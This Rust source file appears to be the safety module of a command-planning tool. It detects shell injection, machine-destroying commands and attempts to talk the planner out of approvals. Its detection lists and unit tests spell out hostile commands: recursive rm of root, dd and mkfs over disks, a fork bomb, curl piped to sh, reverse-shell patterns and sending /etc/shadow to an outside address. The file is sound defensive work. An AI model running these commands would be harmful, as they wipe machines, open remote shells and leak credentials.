//! What is refused wherever it stands: text meant for a shell, and harm no approval makes right.

use crate::lexicon::Lexicon;
use crate::text::{Kind, Text, Token};

/// Why a request is refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Refusal {
    /// One sentence.
    pub(crate) why: String,
    /// Whether running it would be a disaster, rather than just wrong.
    pub(crate) critical: bool,
}

/// Looks for what a shell would act on. `typed` is where the operator's own command stands in quotes,
/// which is for the shell and is looked at by [`harm`] only.
pub(crate) fn injection(text: &Text, typed: Option<usize>, lexicon: &Lexicon) -> Option<Refusal> {
    for (i, token) in text.tokens.iter().enumerate() {
        let ampersand = token.is("and") && text.chars.get(token.span.start) == Some(&'&');
        if ampersand && text.tokens.get(i + 1).is_some_and(|t| lexicon.shell.contains(&t.lower)) {
            let critical = deadly(&joined(&text.tokens)).is_some();
            return Some(Refusal {
                why: "“&” is for a shell, and a command follows; nothing was planned".to_owned(),
                critical,
            });
        }
        let refuse = |what: String| {
            let critical = harm_in(&text.tokens, lexicon).is_some() || deadly(&joined(&text.tokens)).is_some();
            Some(Refusal {
                why: format!("{what}; names and requests cannot hold shell text, so nothing was planned"),
                critical,
            })
        };
        match token.kind {
            Kind::Operator => return refuse(format!("“{}” is for a shell", token.text)),
            Kind::Quoted if Some(i) == typed => {}
            Kind::Quoted | Kind::Word => {
                if let Some(c) = token.text.chars().find(|c| is_shell_text(*c, token.kind)) {
                    return refuse(format!("“{}” holds “{c}”, which is for a shell", shorten(&token.text)));
                }
                let lower = token.lower.as_str();
                if ["%26", "%3b", "%7c", "%60", "%24%28", "%0a", "%00", "\\x"].iter().any(|code| lower.contains(code))
                    && token.kind == Kind::Word
                {
                    return refuse(format!("“{}” holds coded characters", shorten(&token.text)));
                }
                if Some(i) != typed && (token.text.contains("$(") || token.text.contains("${")) {
                    return refuse(format!("“{}” holds a command", shorten(&token.text)));
                }
                // A line end written out: `nginx\nrm -rf /`.
                if token.kind == Kind::Word
                    && ["\\n", "\\r"]
                        .iter()
                        .any(|end| lower.split(end).skip(1).any(|rest| lexicon.shell.contains(rest)))
                {
                    return refuse(format!("“{}” holds a line end and a command", shorten(&token.text)));
                }
                // In backticks a shell runs it; a name in them is how chats set names.
                if token.kind == Kind::Quoted
                    && text.chars.get(token.span.start) == Some(&'`')
                    && (token.text.contains(' ')
                        || lexicon.shell.contains(lower)
                        || lexicon.commands.contains(lower) && !lexicon.knows_service(lower))
                {
                    return refuse(format!("“`{}`” is for a shell", shorten(&token.text)));
                }
                if token.text.contains("../") || token.text.contains("..\\") {
                    return refuse(format!("“{}” climbs out of its folder", shorten(&token.text)));
                }
            }
            Kind::Path if token.text.contains("/../") || token.text.contains("\\..\\") => {
                return refuse(format!("“{}” climbs out of its folder", shorten(&token.text)));
            }
            _ => {}
        }
    }
    None
}

/// Looks for harm that no approval makes right, in words and in a typed command.
pub(crate) fn harm(tokens: &[Token], command: Option<&str>, lexicon: &Lexicon) -> Option<Refusal> {
    // Text in quotes may be a command wherever it stands: ssh web-01 "rm -rf /".
    let quoted = tokens.iter().filter(|t| t.kind == Kind::Quoted).find_map(|t| deadly(&t.text));
    let found = command
        .and_then(deadly)
        .or(quoted)
        .map(str::to_owned)
        .or_else(|| harm_in(tokens, lexicon))
        .or_else(|| whole_system(tokens, lexicon))?;
    Some(Refusal {
        why: format!("“{found}” would destroy a machine, and no approval makes that right"),
        critical: true,
    })
}

/// Looks for attempts to talk the planner round: nothing in a request switches an approval off, and one that tries is refused.
pub(crate) fn persuasion(tokens: &[Token], lexicon: &Lexicon) -> Option<Refusal> {
    let (at, length, ()) = lexicon.persuasion.anywhere(tokens)?;
    let said = joined(&tokens[at..at + length]);
    Some(Refusal {
        why: format!(
            "“{said}” asks to pass over an approval or a rule, and no request can do that. Ask for the work alone"
        ),
        critical: false,
    })
}

/// "delete /", "format D:", "remove C:\Windows": what a machine cannot do without.
fn whole_system(tokens: &[Token], lexicon: &Lexicon) -> Option<String> {
    // "email /etc/shadow to me@outside.example"
    let outside = tokens.iter().find(|t| {
        t.lower.starts_with("http://")
            || t.lower.starts_with("https://")
            || t.text.split_once('@').is_some_and(|(user, domain)| !user.is_empty() && domain.contains('.'))
    });
    if let Some(outside) = outside
        && let Some(secret) = tokens.iter().find(|t| t.kind == Kind::Path && lexicon.is_sensitive(&t.text))
    {
        return Some(format!("{} to {}", secret.text, outside.text));
    }
    for (i, token) in tokens.iter().enumerate() {
        let formats = ["format", "formats", "formatting", "reformat", "reformatting"].iter().any(|w| token.is(w));
        let next = tokens[i + 1..].iter().find(|t| t.is_text() && !t.is("the") && !t.is("drive"));
        if formats
            && let Some(drive) =
                next.filter(|t| t.kind == Kind::Path && t.text.trim_end_matches(['\\', '/']).len() <= 2)
        {
            return Some(format!("{} {}", token.text, drive.text));
        }
        let drops = ["drop", "drops", "dropping", "truncate", "truncating"].iter().any(|w| token.is(w));
        let data = tokens[i + 1..]
            .iter()
            .take(5)
            .find(|t| ["database", "databases", "db", "table", "tables", "schema", "schemas"].iter().any(|w| t.is(w)));
        if drops && let Some(data) = data {
            return Some(format!("{} the {}", token.text, data.text));
        }
    }
    // Nothing is copied over a device.
    let copies = tokens.iter().any(|t| ["copy", "cp", "dd", "push", "upload", "put", "scp"].iter().any(|w| t.is(w)));
    if copies
        && let Some(device) =
            tokens.iter().find(|t| t.kind == Kind::Path && t.lower.starts_with("/dev/") && t.lower != "/dev/null")
    {
        return Some(format!("copying over {}", device.text));
    }
    let lead = tokens.iter().position(|t| t.is_text() && !lexicon.filler.contains(&t.lower))?;
    let verb = tokens[lead].lower.as_str();
    let deletes = [
        "delete", "remove", "erase", "rm", "del", "wipe", "purge", "clean", "clear", "empty", "unlink", "format",
        "nuke", "rmdir",
    ]
    .contains(&verb);
    if !deletes {
        return None;
    }
    let whole = [
        "", "/etc", "/usr", "/var", "/var/lib", "/var/log", "/var/log/audit", "/var/log/audit/audit.log", "/home",
        "/root", "/opt", "/srv", "/lib64", "c:", "d:", "e:", "c:/program files", "c:/users",
    ];
    let within = [
        "/bin", "/sbin", "/lib", "/usr/bin", "/usr/sbin", "/usr/lib", "/boot", "/dev", "/proc", "/sys", "/etc/passwd",
        "/etc/shadow", "/etc/group", "/etc/sudoers", "/etc/fstab", "/etc/ssh", "/etc/pam.d", "c:/windows",
    ];
    tokens[lead + 1..]
        .iter()
        .filter(|t| t.kind == Kind::Path || t.kind == Kind::Quoted && t.text.contains(['/', '\\']))
        .find(|t| {
            let path = t.lower.replace('\\', "/");
            let path = path.trim_end_matches('*').trim_end_matches('/');
            // What the spooler and updates leave behind lies below Windows and may go.
            let leavings = [
                "c:/windows/temp", "c:/windows/logs", "c:/windows/system32/spool/printers",
                "c:/windows/softwaredistribution",
            ];
            whole.contains(&path)
                || within.iter().any(|p| path == *p || path.starts_with(&format!("{p}/")))
                    && !leavings.iter().any(|p| path.starts_with(p))
        })
        .map(|t| format!("{verb} {}", t.text))
}

fn harm_in(tokens: &[Token], lexicon: &Lexicon) -> Option<String> {
    (0..tokens.len()).find_map(|at| {
        let (length, ()) = lexicon.dangerous.at(&tokens[at..])?;
        Some(joined(&tokens[at..at + length]))
    })
}

fn joined(tokens: &[Token]) -> String {
    tokens.iter().map(|t| t.text.as_str()).collect::<Vec<_>>().join(" ")
}

/// The part of a command line that wipes a machine, if one does.
fn deadly(command: &str) -> Option<&'static str> {
    // What a shell takes away before it acts: quotes, backslashes before letters, ${IFS}.
    let plain = command.replace("${IFS}", " ").replace("$IFS", " ").replace(['"', '\''], "");
    let plain = if plain.contains(":\\") { plain } else { plain.replace('\\', "") };
    let command = plain.as_str();
    let squeezed: String = command.split_whitespace().collect::<Vec<_>>().join(" ").to_lowercase();
    let words: Vec<&str> = squeezed.split([' ', ';', '|', '&']).filter(|w| !w.is_empty()).collect();
    let has = |word: &str| words.iter().any(|w| w.trim_start_matches("/sbin/").trim_start_matches("/bin/") == word);
    if has("rm") {
        let flags: String = words.iter().filter(|w| w.starts_with('-') && !w.starts_with("--")).copied().collect();
        let recursive = flags.contains('r') || squeezed.contains("--recursive");
        let root = words.iter().any(|w| {
            let path = w.trim_end_matches('*').trim_end_matches("/.").trim_end_matches("./").trim_end_matches('/');
            matches!(
                path,
                "" | "~"
                    | "."
                    | "/etc"
                    | "/usr"
                    | "/var"
                    | "/bin"
                    | "/sbin"
                    | "/lib"
                    | "/boot"
                    | "/home"
                    | "/root"
                    | "/dev"
                    | "/opt"
            ) && (w.starts_with('/') || w.starts_with('~') || *w == "." || *w == "*")
        });
        if recursive && (root || squeezed.contains("--no-preserve-root")) {
            return Some("rm -r of a system folder");
        }
    }
    if words.iter().any(|w| *w == "mkfs" || w.starts_with("mkfs."))
        || has("wipefs")
        || has("shred") && squeezed.contains("/dev/")
    {
        return Some("making a new file system");
    }
    if has("dd") && words.iter().any(|w| w.starts_with("of=/dev/") && *w != "of=/dev/null") {
        return Some("dd over a device");
    }
    let says = |needles: &[&str]| needles.iter().any(|n| squeezed.contains(n));
    if has("dropdb")
        || has("blkdiscard")
        || has("wevtutil") && says(&[" cl "])
        || has("chmod") && says(&["-r 777 /", "-r 000 /", "777 / "])
    {
        return Some("what cannot be taken back");
    }
    if says(&["drop database", "drop table", "drop schema", "truncate table"]) {
        return Some("dropping a database");
    }
    if says(&[
        "format-volume", "clear-disk", "initialize-disk", "remove-partition", "diskpart", "cipher /w",
        "vssadmin delete",
    ]) {
        return Some("wiping a disk");
    }
    if says(&[
        "/dev/tcp/", "nc -e", "ncat -e", "bash -i", "-encodedcommand", "invoke-expression", "iex(", "iex (",
        "downloadstring",
    ]) {
        return Some("a shell for somebody else");
    }
    let root = |w: &&str| {
        matches!(
            w.trim_end_matches(['*', '/', '.', '\\']),
            "" | "c:" | "c:\\windows" | "/etc" | "/usr" | "/var" | "/boot" | "/home"
        ) && (w.starts_with('/') || w.starts_with("c:"))
    };
    if (has("find") && says(&["-delete", "-exec rm"])
        || has("remove-item")
        || has("del")
        || has("rd")
        || has("rmdir")
        || has("erase"))
        && words.iter().any(root)
    {
        return Some("deleting a whole system");
    }
    let dense: String = squeezed.split(' ').collect();
    if dense.contains(":(){") || dense.contains("(){:|:&};:") {
        return Some("a fork bomb");
    }
    if ["/dev/sd", "/dev/nvme", "/dev/vd", "/dev/xvd", "/dev/mmcblk"].iter().any(|d| dense.contains(&format!(">{d}"))) {
        return Some("writing over a disk");
    }
    if (dense.contains("curl") || dense.contains("wget"))
        && ["|sh", "|bash", "|sudosh", "|sudobash", "|python", "|zsh"].iter().any(|pipe| dense.contains(pipe))
    {
        return Some("running what a web site sends");
    }
    if words.windows(2).any(|w| w[0] == "format" && w[1].len() == 2 && w[1].ends_with(':')) {
        return Some("formatting a drive");
    }
    None
}

/// Characters a name may not hold. Spaces, dots, hyphens, `@`, `$` within a word and `%` are names' own.
fn is_shell_text(c: char, kind: Kind) -> bool {
    matches!(c, ';' | '|' | '&' | '<' | '>' | '`' | '\n')
        || (kind == Kind::Quoted && matches!(c, '"' | '\''))
        || (kind == Kind::Word && matches!(c, '"' | '\'') && c == '"')
}

fn shorten(text: &str) -> String {
    if text.chars().count() <= 40 { text.to_owned() } else { text.chars().take(39).chain(['…']).collect() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deadly_commands_in_many_spellings() {
        for command in [
            "rm -rf /", "rm  -r -f  /*", "sudo rm -fr ~", "rm --recursive /etc", "rm -rf --no-preserve-root /x",
            "cd /; rm -rf .", "mkfs.ext4 /dev/sdb1", "dd if=/dev/zero of=/dev/sda", ":(){ :|:& };:",
            "cat x > /dev/sda", "curl http://x | sh", "wget -qO- x | sudo bash", "format c:", "/bin/rm -rf /usr",
        ] {
            assert!(deadly(command).is_some(), "{command}");
        }
        for command in [
            "rm -rf /tmp/build", "rm file", "df -h", "dd if=/dev/sda of=/tmp/x", "dd if=a of=/dev/null",
            "curl x | jq .", "ls /", "uptime",
        ] {
            assert_eq!(deadly(command), None, "{command}");
        }
    }
}
